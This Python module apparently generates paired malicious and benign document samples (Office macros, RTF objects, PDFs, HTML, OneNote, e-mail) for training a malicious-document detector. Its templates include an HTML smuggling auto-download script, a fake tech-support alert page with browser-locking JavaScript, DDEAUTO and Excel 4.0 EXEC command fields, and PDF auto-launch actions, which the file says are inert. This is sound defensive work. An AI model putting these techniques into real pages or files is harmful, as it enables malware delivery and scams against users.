"""Synthetic pairs: the same document with and without its malicious part.

    PAIRS: kind -> build(rng) -> (format, malicious bytes, benign bytes)
    generate_pairs(count, seed=0) -> Iterator[GeneratedPair]

Each pair shares everything a template draws for the container (text, lure wording, author,
dates, sheet data, page layout); only the malicious part differs: an auto-run dropper macro, an
Excel 4.0 EXEC macro sheet, a remote template or external OLE link, an RTF exploit object, PDF
auto-run JavaScript or a launch action, an HTML smuggling script, a fake-alert page's pressure and
wording, a OneNote embedded script, an
e-mail's dangerous attachment. The benign twin either drops the part or carries a harmless one in
its place (a formatting macro, a text package, form JavaScript, an image), so that a model
trained on pairs learns the part, not the container or its lure. Kinds cycle in a seeded order;
pair i is the same whatever `count` is. Everything is inert, as in `maldoc.samples`.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from typing import NamedTuple

from maldoc.samples import mail, oledoc, onenote, ooxml, ovba, rtf, text, vbagen
from maldoc.samples.pdf import PDF
from maldoc.samples.templates_mail import BENIGN_INNER, MALICIOUS_INNER, _addresses, _inner, _subject
from maldoc.samples.templates_office import (
    EXCEL_BASE,
    WORD_BASE,
    _data_cells,
    _date,
    _excel_modules,
    _lure_text,
    _pid,
    _word_modules,
)
from maldoc.samples.templates_pdf import _doc, _js_action, _lines, _malicious_js
from maldoc.samples.templates_web import SCRIPT_EXTS, _page, _script_body

Build = Callable[[random.Random], tuple[str, bytes, bytes]]  # -> (extension, malicious, benign)


class GeneratedPair(NamedTuple):
    kind: str
    stem: str
    format: str
    malicious: bytes
    benign: bytes


def _benign_word_modules(rng: random.Random) -> list[ovba.Module]:
    _entry, code = vbagen.benign_word(rng)
    return [ovba.Module("ThisDocument", "", document=True, base=WORD_BASE), ovba.Module("HouseStyle", code)]


def _benign_excel_modules(rng: random.Random) -> list[ovba.Module]:
    _entry, code = vbagen.benign_excel(rng)
    return [ovba.Module("ThisWorkbook", "", document=True, base=EXCEL_BASE), ovba.Module("Report", code)]


def doc_macro(rng: random.Random) -> tuple[str, bytes, bytes]:
    body, pid = _lure_text(rng), _pid(rng)
    entry, code, _style = vbagen.dropper(rng, host="word")
    bad = oledoc.doc(body, _word_modules(rng, entry, code), pid)
    good = oledoc.doc(body, _benign_word_modules(rng) if rng.random() < 0.5 else None, pid)
    return "doc", bad, good


def docm_macro(rng: random.Random) -> tuple[str, bytes, bytes]:
    paragraphs, pid = _lure_text(rng).split("\n"), _pid(rng)
    meta = {"title": text.stem(rng), "creator": rng.choice(text.PEOPLE), "date": _date(rng)}
    entry, code, _style = vbagen.dropper(rng, host="word")
    bad = ooxml.word(ooxml.WordDoc(paragraphs=paragraphs, vba_project=oledoc.vba_project_bin(
        _word_modules(rng, entry, code), pid, ovba.HOST_WORD), **meta))
    benign_project = oledoc.vba_project_bin(_benign_word_modules(rng), pid, ovba.HOST_WORD) \
        if rng.random() < 0.5 else b""
    good = ooxml.word(ooxml.WordDoc(paragraphs=paragraphs, vba_project=benign_project, **meta))
    return "docm", bad, good


def xls_macro(rng: random.Random) -> tuple[str, bytes, bytes]:
    data = _data_cells(rng, rng.randint(3, 30))
    lure = [(0, 4, text.lure(rng))]
    pid = _pid(rng)
    visible = [("Sheet1", 0, False, data + lure)]
    if rng.random() < 0.5:  # VBA dropper against a report macro
        entry, code, _style = vbagen.dropper(rng, host="excel")
        bad = oledoc.xls(visible, _excel_modules(rng, entry, code), pid)
        good = oledoc.xls(visible, _benign_excel_modules(rng), pid)
    else:  # an Excel 4.0 macro sheet calling EXEC, against the workbook without it
        state = rng.choice((oledoc.SHEET_HIDDEN, oledoc.SHEET_VERY_HIDDEN))
        cells = [(0, 0, "EXEC", [f"cmd /c rem {text.inert_url(rng, ext='.dat')}"]), (1, 0, "HALT", [])]
        macro = (rng.choice(("Macro1", "Sheet2", text.ident(rng, 4, 8))), state, True, cells)
        bad = oledoc.xls([*visible, macro], None, "")
        good = oledoc.xls(visible, None, "")
    return "xls", bad, good


def docx_remote(rng: random.Random) -> tuple[str, bytes, bytes]:
    paragraphs = _lure_text(rng).split("\n")
    meta = {"creator": rng.choice(text.PEOPLE), "date": _date(rng)}
    kind = rng.randrange(3)
    url = text.inert_url(rng, ext=rng.choice((".dotm", ".rtf", ".hta", ".html", "")))
    if kind == 0:
        bad = ooxml.word(ooxml.WordDoc(paragraphs=paragraphs, template_url=url, **meta))
    elif kind == 1:
        link = f"mhtml:{url}!x-usc:{url}" if rng.random() < 0.4 else url
        bad = ooxml.word(ooxml.WordDoc(paragraphs=paragraphs, ole_links=[link], **meta))
    else:
        cmd, _url = vbagen.command(rng, rng.choice((0, 2)))
        instr = f'DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k {cmd}"'
        bad = ooxml.word(ooxml.WordDoc(paragraphs=paragraphs, fields=[instr], **meta))
    good = ooxml.word(ooxml.WordDoc(paragraphs=paragraphs, **meta))
    return "docx", bad, good


def rtf_object(rng: random.Random) -> tuple[str, bytes, bytes]:
    paragraphs = [text.lure(rng), *text.paragraphs(rng, rng.randint(0, 4))]
    kind = rng.randrange(3)
    if kind == 0:
        cls = rng.choice(("Equation.3", "equation.3"))
        obj = rtf.object_group(rtf.ole1(cls, rtf.equation_native(rng)), cls, rng, update=True,
                               noisy=rng.random() < 0.5)
    elif kind == 1:
        url = text.inert_url(rng, ext=rng.choice((".hta", ".doc")))
        obj = rtf.object_group(rtf.ole1("OLE2Link", rtf.ole2link_native(url)), "OLE2Link", rng, link=True,
                               update=True)
    else:
        ext = rng.choice(SCRIPT_EXTS)
        name = text.ident(rng, 4, 8).lower() + ext
        native = rtf.package(name, f"C:\\Users\\Public\\{name}", f"C:\\Temp\\{name}", _script_body(rng, ext))
        obj = rtf.object_group(rtf.ole1("Package", native), "Package", rng, update=rng.random() < 0.5)
    harmless = []
    if rng.random() < 0.5:  # the twin keeps an object slot, holding a text file
        native = rtf.package("notes.txt", "C:\\Users\\Public\\notes.txt", "C:\\Temp\\notes.txt",
                             text.words(rng, 3).encode())
        harmless = [rtf.object_group(rtf.ole1("Package", native), "Package", rng)]
    return "rtf", rtf.document(paragraphs, [obj]), rtf.document(paragraphs, harmless)


def pdf_action(rng: random.Random) -> tuple[str, bytes, bytes]:
    lines = [text.lure(rng), *_lines(rng, rng.randint(1, 4))]
    objstm = rng.random() < 0.4
    bad_pdf = PDF()
    if rng.random() < 0.7:
        action = _js_action(bad_pdf, rng, _malicious_js(rng))
        key = rng.choice(("/OpenAction", "/OpenAction", "/AA"))
        extra = f" /OpenAction {action} 0 R" if key == "/OpenAction" else f" /AA << /O {action} 0 R >>"
    else:
        target = rng.choice(("cmd.exe", "powershell.exe", "invoice.exe"))
        action = bad_pdf.add(f"<< /Type /Action /S /Launch /Win << /F ({target}) /P (/c rem inert) >> >>")
        extra = f" /OpenAction {action} 0 R"
    layout = rng.random()  # both twins draw producer, author and title from one state
    bad_pdf, catalog, info = _doc(random.Random(layout), lines, catalog_extra=extra, pdf=bad_pdf)
    good_pdf, g_catalog, g_info = _doc(random.Random(layout), lines)
    return "pdf", bad_pdf.to_bytes(catalog, info, objstm=objstm), good_pdf.to_bytes(g_catalog, g_info, objstm=objstm)


def html_smuggle(rng: random.Random) -> tuple[str, bytes, bytes]:
    import base64

    title = rng.choice(("Document", "Invoice", "Shared file", "Voice message"))
    intro = f"<p>{text.lure(rng)}</p>\n<p>Your download will start shortly.</p>"
    inner = ooxml.zip_bytes([(text.ident(rng, 5, 9).lower() + rng.choice((".js", ".vbs", ".hta")),
                              _script_body(rng, ".js"))])
    blob = base64.b64encode(inner).decode()
    v1, v2 = text.ident(rng), text.ident(rng)
    script = (f'var {v1} = "{blob}";\nvar {v2} = new Blob([Uint8Array.from(atob({v1}), c => c.charCodeAt(0))]);\n'
              f'var a = document.createElement("a"); a.href = URL.createObjectURL({v2});\n'
              f'a.download = "{text.stem(rng)}.zip"; document.body.appendChild(a); a.click();')
    harmless = "" if rng.random() < 0.5 else \
        '<script>document.getElementById("y").textContent = new Date().getFullYear();</script><span id="y"></span>'
    return "html", _page(title, f"{intro}\n<script>\n{script}\n</script>"), _page(title, f"{intro}\n{harmless}")


def html_scam(rng: random.Random) -> tuple[str, bytes, bytes]:
    """A fake security alert that takes the screen and nags, and the same page as an ordinary help
    page: the same brand, layout and phone number, calm wording and no capture of the browser."""
    brand = rng.choice(("Windows", "Microsoft", "Apple", "Norton", "McAfee"))
    prefix = rng.choice(("800", "833", "844", "855", "866", "877", "888"))
    phone = f"1-{prefix}-{rng.randint(200, 999)}-{rng.randint(0, 9999):04d}"
    title = f"{brand} {rng.choice(('Support', 'Help Center', 'Customer Service'))}"
    alarm = rng.sample([
        f"{brand} Defender Security Alert", "Your computer has been blocked", "Trojan spyware infection detected",
        "Do not shut down or restart your PC", "Your personal data is at risk", "Error code: 0x268d3",
        f"Call {brand} Support immediately", "Access to this PC has been suspended",
    ], rng.randint(4, 6))
    pressure = [
        "document.documentElement.requestFullscreen();",
        'window.onbeforeunload = function () { return "Are you sure?"; };',
        "for (var i = 0; i < 50; i++) { history.pushState(null, document.title, location.href); }",
        f'alert("{alarm[0]}"); confirm("{alarm[1]}");',
        'var snd = new Audio("alarm.mp3"); snd.loop = true; snd.play();',
    ]
    script = "\n".join(rng.sample(pressure, rng.randint(2, len(pressure))))
    bad_body = (f"<h1>{alarm[0]}</h1>\n" + "".join(f"<p>{line}.</p>\n" for line in alarm[1:])
                + f"<p>Toll free: <b>{phone}</b></p>\n<script>\n{script}\n</script>")
    calm = rng.sample([
        "Find answers to common questions about your account", "Manage your subscription and billing",
        "Update your software to get the latest features", "Our team is available Monday to Friday",
        "Read the getting-started guide", "Track an order or request a return",
    ], rng.randint(3, 5))
    good_body = f"<h1>{title}</h1>\n" + "".join(f"<p>{line}.</p>\n" for line in calm) + \
        f"<p>Customer line: {phone}</p>"
    return "html", _page(title, bad_body), _page(title, good_body)


def onenote_script(rng: random.Random) -> tuple[str, bytes, bytes]:
    guid = rng.randbytes(16)
    page = [text.lure(rng), "Double-click to view the document"]
    ext = rng.choice((".hta", ".bat", ".vbs", ".js", ".cmd", ".wsf"))
    name = rng.choice(("open", "view", "document")) + ext
    png = b"\x89PNG\r\n\x1a\n" + rng.randbytes(rng.randint(64, 512))
    good_files = [("diagram.png", png)] if rng.random() < 0.6 else []
    return ("one", onenote.section(guid, page, [(name, _script_body(rng, ext))]),
            onenote.section(guid, page, good_files))


def eml_attachment(rng: random.Random) -> tuple[str, bytes, bytes]:
    bad_name, bad_data = _inner(rng, MALICIOUS_INNER)
    good_name, good_data = _inner(rng, BENIGN_INNER)
    sender, to = _addresses(rng, bad=rng.random() < 0.5)
    body = f"Hello,\n\n{text.lure(rng)}\n\nRegards,\n{sender.split('<')[0].strip()}\n"
    subject = _subject(rng)
    state = rng.getstate()
    bad = mail.message(rng, sender=sender, to=to, subject=subject, body=body, attachments=[(bad_name, bad_data)])
    rng.setstate(state)  # the same date, message id and boundaries
    good = mail.message(rng, sender=sender, to=to, subject=subject, body=body, attachments=[(good_name, good_data)])
    return "eml", bad, good


PAIRS: dict[str, Build] = {
    "doc_macro": doc_macro, "docm_macro": docm_macro, "xls_macro": xls_macro, "docx_remote": docx_remote,
    "rtf_object": rtf_object, "pdf_action": pdf_action, "html_smuggle": html_smuggle, "html_scam": html_scam,
    "onenote_script": onenote_script, "eml_attachment": eml_attachment,
}


def generate_pairs(count: int, seed: int = 0) -> Iterator[GeneratedPair]:
    """`count` pairs (2 x count files), kinds cycling in a seeded order."""
    order = random.Random(f"maldoc-pairs/order/{seed}")
    queue: list[str] = []
    for index in range(count):
        if not queue:
            queue = sorted(PAIRS)
            order.shuffle(queue)
        kind = queue.pop()
        rng = random.Random(f"maldoc-pairs/{seed}/{index}/{kind}")
        fmt, bad, good = PAIRS[kind](rng)
        yield GeneratedPair(kind, f"{index:04d}_{kind}", fmt, bad, good)
